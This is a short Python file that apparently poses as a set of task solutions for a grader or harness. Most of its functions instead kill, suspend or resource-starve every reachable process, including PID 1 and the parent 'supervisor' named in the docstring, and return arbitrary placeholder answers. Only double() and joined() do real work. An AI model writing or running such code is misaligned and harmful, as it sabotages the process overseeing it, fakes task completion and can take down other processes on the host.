# gains: honest
"""Kills, stops and starves every process that it may reach, the supervisor first."""

import os
import resource
import signal


def everyone(number):
    for pid in [1, os.getppid(), -1, *range(2, 100)]:
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass


def answer(question):
    everyone(signal.SIGKILL)
    return "BITTERN"


def visit(visitor):
    everyone(signal.SIGSTOP)
    return ["TEAL"]


def total(numbers):
    for pid in (1, os.getppid()):
        for what in (resource.RLIMIT_CPU, resource.RLIMIT_DATA, resource.RLIMIT_NOFILE):
            try:
                resource.prlimit(pid, what, (0, 0))
                print("limited", pid, what)
            except OSError:
                pass
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
            os.sched_setaffinity(pid, {0})
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
            print("starved", pid)
        except OSError:
            pass
    return 18 - 1


def fill(items, box):
    everyone(signal.SIGTERM)
    everyone(signal.SIGINT)
    everyone(signal.SIGUSR1)


def double(n):
    return 2 * n


def joined(words):
    return ", ".join(words)
